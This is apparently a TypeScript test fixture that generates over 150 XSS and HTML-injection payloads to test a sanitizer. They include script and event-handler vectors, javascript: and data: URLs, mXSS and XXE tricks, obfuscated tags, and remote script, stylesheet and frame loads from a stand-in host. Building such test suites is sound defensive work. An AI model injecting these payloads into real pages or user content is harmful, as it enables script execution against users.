// At least 100 HTML/script payloads for the hostile-content suite; each one, if it ever ran, would set window.__pwned to its id.

export interface HostilePayload {
  id: string;
  /** What kind of attack it is (for the report). */
  kind: string;
  text: string;
}

/** Host that no test ever serves: any request to it is a leak (the payloads use it for remote loads). */
export const evilHost = 'evil.invalid';

/** Vector templates; `$` is replaced by the JavaScript that marks execution, `#` by the payload id. */
const vectors: [string, string][] = [
  ['script', '<script>$</script>'],
  ['script-src', `<script src="http://${evilHost}/#.js"></script>`],
  ['img-onerror', '<img src=x onerror="$">'],
  ['img-remote', `<img src="http://${evilHost}/#.png">`],
  ['svg-onload', '<svg onload="$"><circle r=1 /></svg>'],
  ['svg-animate', '<svg><animate onbegin="$" attributeName=x dur=1s></svg>'],
  ['svg-script', '<svg><script>$</script></svg>'],
  ['iframe-js', '<iframe src="javascript:$"></iframe>'],
  ['iframe-srcdoc', '<iframe srcdoc="<script>parent.$</script>"></iframe>'],
  ['iframe-remote', `<iframe src="http://${evilHost}/#"></iframe>`],
  ['a-javascript', '<a href="javascript:$">click me</a>'],
  ['a-data', '<a href="data:text/html,<script>$</script>">data link</a>'],
  ['body-onload', '<body onload="$">'],
  ['details-ontoggle', '<details open ontoggle="$"><summary>x</summary></details>'],
  ['input-autofocus', '<input autofocus onfocus="$">'],
  ['video-source', '<video><source onerror="$"></video>'],
  ['audio-src', '<audio src=x onerror="$"></audio>'],
  ['marquee', '<marquee onstart="$">scroll</marquee>'],
  ['object-data', '<object data="data:text/html,<script>$</script>"></object>'],
  ['embed-svg', '<embed src="data:image/svg+xml,<svg onload=\'$\'/>">'],
  ['meta-refresh', '<meta http-equiv="refresh" content="0;url=javascript:$">'],
  ['meta-refresh-remote', `<meta http-equiv="refresh" content="0;url=http://${evilHost}/#">`],
  ['base-href', `<base href="http://${evilHost}/#/">`],
  ['link-stylesheet', `<link rel="stylesheet" href="http://${evilHost}/#.css">`],
  ['style-import', `<style>@import url("http://${evilHost}/#.css");</style>`],
  ['css-url', `<div style="background:url('http://${evilHost}/#.png')">styled</div>`],
  ['css-expression', '<div style="width: expression($)">ie</div>'],
  ['form-action', '<form action="javascript:$"><button>send</button></form>'],
  ['math-href', '<math><maction xlink:href="javascript:$">m</maction></math>'],
  ['noscript-mxss', '<noscript><p title="</noscript><img src=x onerror=$>">'],
  ['attr-breakout', '"><img src=x onerror=$>'],
  ['template-injection', "{{constructor.constructor('$')()}}"],
  ['markdown-link', '[click](javascript:$)'],
  ['markdown-image', `![x](http://${evilHost}/#.png)`],
  ['entity-encoded', '&lt;img src=x onerror=$&gt; &#60;script&#62;$&#60;/script&#62;'],
  ['uppercase', '<SCRIPT>$</SCRIPT><IMG SRC=x ONERROR="$">'],
  ['unclosed', '<img src=x onerror="$" '],
  ['data-uri-script', '<script src="data:text/javascript,$"></script>'],
  ['srcset', `<img srcset="http://${evilHost}/#.png 1x">`],
  ['picture', `<picture><source srcset="http://${evilHost}/#.webp"><img src=x></picture>`],
  ['xlink', '<svg><a xlink:href="javascript:$"><text y=10>t</text></a></svg>'],
  ['contenteditable-paste', '<div contenteditable onfocus="$">edit</div>'],
  ['import-map', '<script type="importmap">{"imports":{"react":"data:text/javascript,$"}}</script>'],
  ['html-comment', '<!--><img src=x onerror=$>-->'],
  ['cdata', '<![CDATA[<script>$</script>]]>'],
  ['xml-entity', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.invalid/#">]><x>&e;</x>'],
  ['javascript-url-plain', 'javascript:$'],
  ['fontface', `<style>@font-face{font-family:x;src:url(http://${evilHost}/#.woff)}</style>`],
  ['ping', `<a href="#" ping="http://${evilHost}/#">ping</a>`],
  ['zero-width-script', '<scr\u200bipt>$</scr\u200bipt>'],
  ['nul-split', '<scr\u0000ipt>$</script>'],
];

/** Three variants per vector (as is, inside a sentence, at a line start after a heading) for at least 150 payloads. */
export function hostilePayloads(): HostilePayload[] {
  const out: HostilePayload[] = [];
  vectors.forEach(([kind, template], i) => {
    for (const variant of ['bare', 'sentence', 'heading']) {
      const id = `p${i}${variant[0]}`;
      const mark = `window.__pwned=(window.__pwned||[]).concat('${id}');alert('${id}')`;
      const body = template.replace(/\$/g, mark).replace(/#/g, id);
      const text =
        variant === 'bare' ? body : variant === 'sentence' ? `Anna Berger sagte: ${body} und ging.` : `## ${body}\n${body}`;
      out.push({ id, kind, text });
    }
  });
  return out;
}
